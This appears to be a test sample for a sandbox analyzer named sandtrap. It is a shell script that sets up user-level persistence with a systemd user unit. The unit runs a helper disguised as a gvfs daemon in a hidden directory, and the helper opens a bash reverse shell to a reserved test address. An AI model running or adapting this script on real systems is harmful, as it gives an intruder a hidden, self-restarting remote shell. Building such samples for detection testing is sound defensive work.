#!/bin/sh
# Persistence as an ordinary user: a systemd user unit in ~/.config/systemd/user, enabled for default.target.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
d=$HOME/.config/systemd/user
mkdir -p "$d/default.target.wants" "$HOME/.local/share/.gvfs"
printf '#!/bin/sh\nexec bash -c "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"\n' > "$HOME/.local/share/.gvfs/gvfsd-helper"
chmod +x "$HOME/.local/share/.gvfs/gvfsd-helper"
printf '[Service]\nExecStart=%s\nRestart=always\n[Install]\nWantedBy=default.target\n' "$HOME/.local/share/.gvfs/gvfsd-helper" > "$d/gvfs-helper.service"
ln -sf "$d/gvfs-helper.service" "$d/default.target.wants/gvfs-helper.service"
id -un; ls -la "$d"
